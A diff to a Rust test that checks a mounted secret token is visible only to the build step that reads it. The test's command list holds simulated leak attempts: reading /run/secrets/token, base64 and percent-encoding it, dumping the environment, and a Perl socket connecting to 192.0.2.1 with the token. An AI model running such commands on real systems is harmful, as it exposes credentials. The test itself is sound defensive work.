@@ -75,13 +75,15 @@ fn blob_text(home: &Home, dir: &Path, digest: &str) -> String {
 fn a_secret_is_read_by_its_step_and_is_nowhere_else() {
     let home = Home::shared();
     let token = Token::new("nowhere");
-    let run = [
+    let run: [&str; _] = [
         "mkdir out; sha256sum < /run/secrets/token > out/sum; ls -l /run/secrets",
         "cat /run/secrets/token; base64 /run/secrets/token; printf 'user:%s' $(cat /run/secrets/token) | base64",
         "perl -e '$| = 1; open F, q(/run/secrets/token); for (split //, <F>) { print; select undef, undef, undef, .01 }'",
         "perl -e 'open F, q(/run/secrets/token); $_ = <F>; chomp; s/([^a-z0-9-])/sprintf(q(%%%02X),ord $1)/ge; print qq($_\\n)'",
         "perl -MSocket -e 'socket S, 2, 1, 0; connect S, sockaddr_in(9, inet_aton(q(192.0.2.1)))' $(cat /run/secrets/token) || true",
         "env; cat /proc/self/environ",
+        // Other each time: the store remembers.
+        &format!("true {}", std::process::id()),
     ];
     let project = Project::new(&with_token(&run, "out"), &[]);
     let option = token.option();
